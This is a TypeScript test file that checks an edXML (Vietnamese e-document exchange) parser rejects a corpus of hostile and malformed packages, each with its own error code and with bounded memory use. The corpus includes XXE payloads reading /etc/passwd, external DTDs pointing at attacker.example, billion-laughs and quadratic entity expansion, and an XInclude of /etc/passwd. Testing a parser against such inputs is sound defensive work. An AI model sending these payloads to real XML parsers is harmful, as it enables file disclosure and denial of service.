import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { checkPackage, EdxmlError, type EdxmlErrorCode, type EdxmlProfile, type ParseLimits } from '../../src/edxml/index.js';
import { attachment, bytes, edocXml, HELLO_BASE64, NS, REFERENCE_1, RESPONSE_FOR, statusXml, TO_H14, TO_H41 } from './packages.js';

interface HostileCase {
  name: string;
  input: () => Uint8Array;
  code: EdxmlErrorCode;
  limits?: Partial<ParseLimits>;
  /**
   * Default: the field profile (the gateway's). `strict` marks what the field profile accepts with a warning
   * (test/edxml/field-profile.test.ts); everything else is refused in both.
   */
  profile?: EdxmlProfile;
}

const edoc = (parts: Parameters<typeof edocXml>[0]) => () => bytes(edocXml(parts));
const status = (parts: Parameters<typeof statusXml>[0]) => () => bytes(statusXml(parts));
const replaced = (from: string | RegExp, to: string) => () => bytes(edocXml().replace(from, to));
const withDoctype = (doctype: string) => () => bytes(edocXml().replace('<edXML xmlns=', `${doctype}\n<edXML xmlns=`));
const business = (type: number, extra = '') => `<edXML:Bussiness><edXML:BussinessDocType>${type}</edXML:BussinessDocType>${extra}</edXML:Bussiness>`;
const MiB = 1024 * 1024;

// A real collection before each measurement, so the baseline holds no garbage: exposed by node --expose-gc, or
// turned on here (the flag only makes `gc` available to contexts created afterwards, hence the new context).
setFlagsFromString('--expose-gc');
const collectGarbage = (globalThis.gc ?? runInNewContext('gc')) as () => void;

/**
 * Memory a call took and still held when it returned: JS heap plus external memory (Buffers, ArrayBuffers), after a
 * collection just before. It misses garbage V8 collected during the call, so it is a lower bound of the peak; an
 * expansion (entities, a DOM of a huge value) is live until the call returns, so it shows in full.
 */
function growthDuring<T>(call: () => T): { result: T; heap: number; rss: number } {
  collectGarbage();
  const before = process.memoryUsage();
  const result = call();
  const after = process.memoryUsage();
  return { result, heap: after.heapUsed + after.external - (before.heapUsed + before.external), rss: after.rss - before.rss };
}

/**
 * The bound a rejection must stay under: 32 MiB of working room plus 3x the input (a copy into the parser, a decoded
 * string). Measured on this corpus: at most ~3 MiB of heap and ~4 MiB of RSS (rss also covers libxml2's wasm memory,
 * which only grows), so the bound leaves room yet catches any expansion of a small input past 32 MiB.
 */
const allowedGrowth = (inputBytes: number, room = 32 * MiB) => room + 3 * inputBytes;

const BILLION_LAUGHS = `<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>`;

const CASES: HostileCase[] = [
  // Not XML, or not safe XML
  { name: 'an empty upload', input: () => new Uint8Array(0), code: 'EDXML_EMPTY' },
  { name: 'junk bytes before the XML declaration (edoc_new.edxml)', input: () => bytes('1212' + edocXml()), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'a PDF sent instead of a package', input: () => bytes('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'an unclosed element', input: () => bytes(edocXml().replace('</edXML:Subject>', '')), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'mismatched end tag', input: replaced('</edXML:Subject>', '</edXML:Content>'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'a second root element', input: () => bytes(edocXml() + '<edXML/>'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'a truncated upload', input: () => bytes(edocXml().slice(0, 1500)), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'an undefined entity reference', input: replaced('Văn phòng Chính phủ', '&vpcp;'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'an unterminated comment', input: replaced('<edXML:DueDate>', '<!-- never closed <edXML:DueDate>'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'an unterminated CDATA section', input: replaced('<edXML:DueDate>', '<![CDATA[ never closed <edXML:DueDate>'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'an unquoted attribute', input: replaced('Manifest version="1.0"', 'Manifest version=1.0'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'a duplicated attribute', input: replaced('Manifest version="1.0"', 'Manifest version="1.0" version="1.1"'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'invalid UTF-8 bytes in a value', input: () => Buffer.concat([bytes(edocXml()).subarray(0, 400), Buffer.from([0xc3, 0x28, 0xff]), bytes(edocXml()).subarray(400)]), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'a control character reference', input: replaced('V/v kết nối', 'V/v &#1; kết nối'), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'a raw NUL byte', input: () => bytes(edocXml().replace('V/v kết nối', 'V/v \u0000 kết nối')), code: 'EDXML_NOT_WELL_FORMED' },
  { name: 'an internal DTD subset', input: withDoctype('<!DOCTYPE edXML [<!ELEMENT edXML ANY>]>'), code: 'EDXML_DTD_FORBIDDEN' },
  { name: 'an external entity (XXE) reading /etc/passwd', input: () => bytes(edocXml().replace('<edXML xmlns=', '<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<edXML xmlns=').replace('Hà Nội', '&xxe;')), code: 'EDXML_DTD_FORBIDDEN' },
  { name: 'an external parameter entity', input: withDoctype('<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>'), code: 'EDXML_DTD_FORBIDDEN' },
  { name: 'an external DTD by public id', input: withDoctype('<!DOCTYPE edXML PUBLIC "-//X//DTD X//EN" "http://attacker.example/x.dtd">'), code: 'EDXML_DTD_FORBIDDEN' },
  { name: 'billion laughs', input: () => bytes(edocXml().replace('<edXML xmlns=', `${BILLION_LAUGHS}\n<edXML xmlns=`).replace('Hà Nội', '&lol9;')), code: 'EDXML_DTD_FORBIDDEN' },
  { name: 'quadratic blow-up (one large entity used many times)', input: () => bytes(edocXml().replace('<edXML xmlns=', `<!DOCTYPE edXML [<!ENTITY a "${'a'.repeat(50_000)}">]>\n<edXML xmlns=`).replace('Hà Nội', '&a;'.repeat(50_000))), code: 'EDXML_DTD_FORBIDDEN' },
  { name: 'a DOCTYPE hidden after a comment', input: withDoctype('<!-- harmless -->\n<!DOCTYPE edXML>'), code: 'EDXML_DTD_FORBIDDEN' },
  { name: '10,000-deep nesting', input: () => bytes(edocXml().replace('<edXML:DueDate>', '<edXML:X>'.repeat(10_000) + '</edXML:X>'.repeat(10_000) + '<edXML:DueDate>')), code: 'EDXML_LIMIT_DEPTH' },
  { name: 'a 50 MB attribute', input: () => bytes(edocXml().replace('Manifest version="1.0"', `Manifest version="${'A'.repeat(50 * MiB)}"`)), code: 'EDXML_LIMIT_ATTRIBUTE_LENGTH' },
  { name: 'a 5,000-character element name', input: replaced('<edXML:DueDate>', `<edXML:${'N'.repeat(5000)}/><edXML:DueDate>`), code: 'EDXML_LIMIT_NAME_LENGTH' },
  { name: 'a 5,000-character attribute name', input: replaced('Manifest version="1.0"', `Manifest ${'n'.repeat(5000)}="1"`), code: 'EDXML_LIMIT_NAME_LENGTH' },
  { name: '30,000 elements', input: edoc({ otherInfo: `<edXML:OtherInfo><edXML:Appendixes>${'<edXML:Appendix>x</edXML:Appendix>'.repeat(30_000)}</edXML:Appendixes></edXML:OtherInfo>` }), code: 'EDXML_LIMIT_ELEMENTS' },
  { name: 'a 2 MB text value', input: edoc({ subject: `<edXML:Subject>${'x'.repeat(2 * MiB)}</edXML:Subject>` }), code: 'EDXML_LIMIT_TEXT_LENGTH' },
  { name: 'a 2 MB comment', input: replaced('<edXML:DueDate>', `<!--${'x'.repeat(2 * MiB)}--><edXML:DueDate>`), code: 'EDXML_LIMIT_TEXT_LENGTH' },
  { name: 'a package over the size limit', input: edoc({}), limits: { maxBytes: 1000 }, code: 'EDXML_TOO_LARGE' },
  { name: 'more attachments than allowed', input: edoc({ attachments: attachment('cid:1', HELLO_BASE64) + attachment('cid:2', HELLO_BASE64) }), limits: { maxAttachments: 1 }, code: 'EDXML_LIMIT_ATTACHMENTS' },
  { name: 'UTF-16 with a byte-order mark', input: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(edocXml(), 'utf16le')]), code: 'EDXML_ENCODING_UNSUPPORTED' },
  { name: 'a declared ISO-8859-1 encoding', input: replaced('encoding="UTF-8"', 'encoding="ISO-8859-1"'), code: 'EDXML_ENCODING_UNSUPPORTED' },
  { name: 'an undeclared namespace prefix (as in edoc.edxml)', input: replaced('<edXML:Reference>', '<edXML:Reference xlink:href="">'), code: 'EDXML_NAMESPACE_ERROR', profile: 'strict' },
  { name: 'an undeclared prefix other than edXML and xlink', input: replaced('<edXML:Reference>', '<edXML:Reference xsi:type="x">'), code: 'EDXML_NAMESPACE_ERROR' },
  // Not an edXML package
  { name: 'an XHTML page', input: () => bytes('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'), code: 'EDXML_NOT_EDXML' },
  { name: 'the 2015 draft namespace', input: () => bytes(edocXml().replace(`<edXML xmlns="${NS}">`, '<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2015">')), code: 'EDXML_WRONG_NAMESPACE' },
  { name: 'no namespace at all', input: () => bytes(edocXml().replace(`<edXML xmlns="${NS}">`, '<edXML>')), code: 'EDXML_WRONG_NAMESPACE' },
  { name: 'no envelope', input: () => bytes(`<edXML xmlns="${NS}"><AttachmentEncoded/></edXML>`), code: 'EDXML_SCHEMA_INVALID' },
  // Schema
  { name: 'missing From', input: replaced(/<edXML:From>.*?<\/edXML:From>/, ''), code: 'EDXML_SCHEMA_INVALID' },
  { name: 'an element the standard does not have', input: replaced('<edXML:DueDate>', '<edXML:Secret>1</edXML:Secret><edXML:DueDate>'), code: 'EDXML_SCHEMA_INVALID' },
  { name: 'an XInclude (never processed)', input: replaced('<edXML:DueDate>', '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><edXML:DueDate>'), code: 'EDXML_SCHEMA_INVALID' },
  { name: 'From without OrganId', input: replaced('<edXML:OrganId>000.00.00.G22</edXML:OrganId><edXML:OrganName>Văn phòng', '<edXML:OrganName>Văn phòng'), code: 'EDXML_SCHEMA_INVALID' },
  { name: 'an attachment without ContentTransferEncoded', input: edoc({ attachments: '<Attachment><ContentId>cid:1</ContentId></Attachment>' }), code: 'EDXML_SCHEMA_INVALID' },
  { name: 'a status package carrying a To', input: status({ extra: TO_H41 }), code: 'EDXML_SCHEMA_INVALID' },
  // Rules
  { name: 'no recipient', input: edoc({ to: '' }), code: 'EDXML_RULE_NO_RECIPIENT' },
  { name: 'the same recipient twice', input: edoc({ to: TO_H41 + TO_H14 + TO_H41 }), code: 'EDXML_RULE_DUPLICATE_RECIPIENT' },
  { name: 'a lower-case OrganId', input: edoc({ to: TO_H41.replace('000.00.00.H41', '000.00.00.h41') }), code: 'EDXML_RULE_ORGAN_ID_INVALID', profile: 'strict' },
  { name: 'a 36-character OrganId', input: edoc({ to: TO_H41.replace('000.00.00.H41', 'A'.repeat(36)) }), code: 'EDXML_RULE_ORGAN_ID_INVALID', profile: 'strict' },
  { name: 'a 65-character system identifier', input: edoc({ to: TO_H41.replace('000.00.00.H41', 'a'.repeat(65)) }), code: 'EDXML_RULE_ORGAN_ID_INVALID' },
  { name: 'an OrganId with markup-like characters', input: edoc({ to: TO_H41.replace('000.00.00.H41', 'vxp.saas.03&amp;x') }), code: 'EDXML_RULE_ORGAN_ID_INVALID' },
  { name: 'an OrganId with a space', input: replaced('<edXML:OrganId>000.00.00.G22</edXML:OrganId><edXML:Timestamp>', '<edXML:OrganId>000.00 .00.G22</edXML:OrganId><edXML:Timestamp>'), code: 'EDXML_RULE_ORGAN_ID_INVALID' },
  { name: 'an empty sender OrganId', input: replaced('<edXML:OrganId>000.00.00.G22</edXML:OrganId><edXML:OrganName>', '<edXML:OrganId></edXML:OrganId><edXML:OrganName>'), code: 'EDXML_RULE_MISSING_ELEMENT' },
  { name: 'no DocumentId', input: edoc({ documentId: '' }), code: 'EDXML_RULE_MISSING_ELEMENT' },
  { name: 'no Subject', input: edoc({ subject: '' }), code: 'EDXML_RULE_MISSING_ELEMENT' },
  { name: 'two Subjects', input: edoc({ subject: '<edXML:Subject>a</edXML:Subject><edXML:Subject>b</edXML:Subject>' }), code: 'EDXML_RULE_DUPLICATE_ELEMENT' },
  { name: 'a 501-character Subject', input: edoc({ subject: `<edXML:Subject>${'đ'.repeat(501)}</edXML:Subject>` }), code: 'EDXML_RULE_TEXT_TOO_LONG' },
  { name: 'Priority 5', input: edoc({ otherInfo: '<edXML:OtherInfo><edXML:Priority>5</edXML:Priority></edXML:OtherInfo>' }), code: 'EDXML_RULE_PRIORITY_RANGE' },
  { name: 'Priority "high"', input: edoc({ otherInfo: '<edXML:OtherInfo><edXML:Priority>high</edXML:Priority></edXML:OtherInfo>' }), code: 'EDXML_RULE_PRIORITY_RANGE' },
  { name: 'an ISO date instead of yyyy/MM/dd', input: replaced('<edXML:PromulgationDate>2018/09/28', '<edXML:PromulgationDate>2018-09-28'), code: 'EDXML_RULE_DATE_FORMAT' },
  { name: 'the 30th of February', input: replaced('<edXML:PromulgationDate>2018/09/28', '<edXML:PromulgationDate>2018/02/30'), code: 'EDXML_RULE_DATE_FORMAT' },
  { name: 'a DueDate written dd/MM/yyyy', input: replaced('2018/10/28', '28/10/2018'), code: 'EDXML_RULE_DATE_FORMAT' },
  { name: 'a TraceHeader timestamp without time', input: replaced('2018/09/28 08:30:00', '2018/09/28'), code: 'EDXML_RULE_TIMESTAMP_FORMAT' },
  { name: 'a timestamp at 25 o\'clock', input: replaced('2018/09/28 08:30:00', '2018/09/28 25:00:00'), code: 'EDXML_RULE_TIMESTAMP_FORMAT' },
  { name: 'BussinessDocType 7', input: edoc({ business: business(7) }), code: 'EDXML_RULE_BUSINESS_TYPE' },
  { name: 'an empty BussinessDocType', input: edoc({ business: '<edXML:Bussiness><edXML:BussinessDocType></edXML:BussinessDocType></edXML:Bussiness>' }), code: 'EDXML_RULE_MISSING_ELEMENT' },
  { name: 'a revocation without ResponseFor', input: edoc({ business: business(1) }), code: 'EDXML_RULE_MISSING_ORIGINAL' },
  { name: 'a revocation with an empty ResponseFor', input: edoc({ business: business(1), responseFor: '<edXML:ResponseFor><edXML:OrganId></edXML:OrganId><edXML:DocumentId></edXML:DocumentId></edXML:ResponseFor>' }), code: 'EDXML_RULE_MISSING_ORIGINAL' },
  { name: 'an update without the original DocumentId', input: edoc({ business: business(2, '<edXML:BussinessDocReason>sửa</edXML:BussinessDocReason>') }), code: 'EDXML_RULE_MISSING_ORIGINAL' },
  { name: 'a replacement without ReplacementInfoList', input: edoc({ business: business(3) }), code: 'EDXML_RULE_MISSING_ORIGINAL' },
  { name: 'a manifest reference with no attachment', input: edoc({ attachments: '' }), code: 'EDXML_RULE_ATTACHMENT_MISMATCH' },
  { name: 'an attachment missing from the manifest', input: edoc({ references: '' }), code: 'EDXML_RULE_ATTACHMENT_MISMATCH' },
  { name: 'two attachments with the same ContentId', input: edoc({ attachments: attachment('cid:1', HELLO_BASE64) + attachment('cid:1', HELLO_BASE64) }), code: 'EDXML_RULE_ATTACHMENT_MISMATCH' },
  { name: 'a manifest listing the same ContentId twice', input: edoc({ references: REFERENCE_1 + REFERENCE_1 }), code: 'EDXML_RULE_ATTACHMENT_MISMATCH' },
  { name: 'base64 with a foreign character', input: edoc({ attachments: attachment('cid:1', 'eGlu$IGNow6Bv') }), code: 'EDXML_ATTACHMENT_BAD_BASE64', profile: 'strict' },
  { name: 'truncated base64', input: edoc({ attachments: attachment('cid:1', 'eGluIGNow6BvA') }), code: 'EDXML_ATTACHMENT_BAD_BASE64', profile: 'strict' },
  { name: 'base64 with data after the padding', input: edoc({ attachments: attachment('cid:1', 'eGk=eGk=') }), code: 'EDXML_ATTACHMENT_BAD_BASE64', profile: 'strict' },
  { name: 'a JMeter placeholder instead of content (as in edoc.edxml)', input: edoc({ attachments: attachment('cid:1', '${__StringFromFile(test.txt,,,)}') }), code: 'EDXML_ATTACHMENT_BAD_BASE64', profile: 'strict' },
  { name: 'invalid base64 inside CDATA', input: edoc({ attachments: attachment('cid:1', '<![CDATA[not base64!]]>') }), code: 'EDXML_ATTACHMENT_BAD_BASE64', profile: 'strict' },
  // Status packages
  { name: 'an unknown StatusCode 07', input: status({ statusCode: '<edXML:StatusCode>07</edXML:StatusCode>' }), code: 'EDXML_RULE_UNKNOWN_STATUS_CODE' },
  { name: 'StatusCode "3" instead of "03"', input: status({ statusCode: '<edXML:StatusCode>3</edXML:StatusCode>' }), code: 'EDXML_RULE_UNKNOWN_STATUS_CODE' },
  { name: 'a status without ResponseFor', input: status({ responseFor: '' }), code: 'EDXML_RULE_MISSING_RESPONSE_FOR' },
  { name: 'a status with an empty ResponseFor', input: status({ responseFor: '<edXML:ResponseFor><edXML:DocumentId> </edXML:DocumentId></edXML:ResponseFor>' }), code: 'EDXML_RULE_MISSING_RESPONSE_FOR' },
  { name: 'a status without Timestamp', input: status({ timestamp: '' }), code: 'EDXML_RULE_MISSING_ELEMENT' },
  { name: 'a status timestamp in ISO form', input: status({ timestamp: '<edXML:Timestamp>2018-09-28T17:25:11+07:00</edXML:Timestamp>' }), code: 'EDXML_RULE_TIMESTAMP_FORMAT' },
  { name: 'a status with two StatusCodes', input: status({ extra: '<edXML:StatusCode>05</edXML:StatusCode>' }), code: 'EDXML_RULE_DUPLICATE_ELEMENT' },
  { name: 'a status about a document with a malformed date', input: status({ responseFor: RESPONSE_FOR.replace('2018/09/28<', '2018/13/01<') }), code: 'EDXML_RULE_DATE_FORMAT' },
];

function rejection(input: Uint8Array, limits?: Partial<ParseLimits>, profile?: EdxmlProfile): EdxmlError {
  try {
    checkPackage(input, { ...limits, ...(profile ? { profile } : {}) });
  } catch (error) {
    if (error instanceof EdxmlError) return error;
    throw error;
  }
  throw new Error('the package was accepted');
}

describe('hostile and broken packages are each rejected with their own code', () => {
  it('the corpus has at least 50 cases', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(50);
  });

  it('the memory guard can fail: it sees a 1,000-fold expansion of a 40 KiB input', () => {
    const small = 40 * 1024;
    // Flat strings (not 'x'.repeat: V8 keeps a repeat as a rope of a few nodes, which takes no memory to speak of).
    const expanded = growthDuring(() => Array.from({ length: 1000 }, (_, i) => Buffer.alloc(small, 65 + (i % 26)).toString('latin1')));
    expect(expanded.result).toHaveLength(1000);
    expect(expanded.heap).toBeGreaterThan(allowedGrowth(small));
  });

  // Guard rails, not speed measurements: the per-test timeout catches a hang, the memory bound an expansion.
  it.each(CASES)('$name -> $code', ({ input, code, limits, profile }) => {
    const data = input();
    const { result: error, heap, rss } = growthDuring(() => rejection(data, limits, profile));
    expect(error.code).toBe(code);
    expect(error.message.length).toBeGreaterThan(20);
    expect(heap).toBeLessThan(allowedGrowth(data.byteLength));
    expect(rss).toBeLessThan(allowedGrowth(data.byteLength, 64 * MiB));
  }, 30_000);

  it('the cases only the strict profile refuses are exactly the field profile\'s deviations, each accepted with a warning', () => {
    const strictOnly = CASES.filter((c) => c.profile === 'strict');
    expect(strictOnly.map((c) => c.code).sort()).toEqual([...Array(5).fill('EDXML_ATTACHMENT_BAD_BASE64'), 'EDXML_NAMESPACE_ERROR', 'EDXML_RULE_ORGAN_ID_INVALID', 'EDXML_RULE_ORGAN_ID_INVALID']);
    for (const c of strictOnly) {
      const { warnings } = checkPackage(c.input());
      expect(warnings.map((w) => w.code), c.name).toEqual([expect.stringMatching(/^EDXML_WARN_(ATTACHMENT_NOT_BASE64|XLINK_PREFIX_UNDECLARED|ORGAN_ID_SYSTEM)$/)]);
    }
  });

  it('says where the problem is: the line of a duplicate recipient', () => {
    const xml = edocXml({ to: `${TO_H41}\n${TO_H14}\n${TO_H41}` });
    const error = rejection(bytes(xml));
    const line = xml.split('\n').findIndex((l, k, all) => l.includes('000.00.00.H41') && all.slice(0, k).some((p) => p.includes('000.00.00.H41'))) + 1;
    expect(error.line).toBe(line);
    expect(error.message).toContain(`line ${line}`);
  });

  it('reports the line of a not well-formed spot from libxml2', () => {
    const xml = edocXml().replace('</edXML:Subject>', '</edXML:Content>');
    const error = rejection(bytes(xml));
    expect(error.line).toBe(xml.split('\n').findIndex((l) => l.includes('</edXML:Content>')) + 1);
  });
});
